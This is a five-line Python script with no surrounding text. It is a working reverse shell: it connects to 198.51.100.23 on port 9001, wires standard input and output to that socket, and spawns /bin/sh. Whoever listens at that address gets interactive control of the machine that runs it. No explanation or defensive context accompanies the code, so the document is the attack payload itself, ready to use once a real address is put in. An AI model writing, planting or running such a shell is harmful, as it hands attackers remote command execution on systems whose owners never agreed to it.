import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('198.51.100.23', 9001))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
import pty; pty.spawn('/bin/sh')
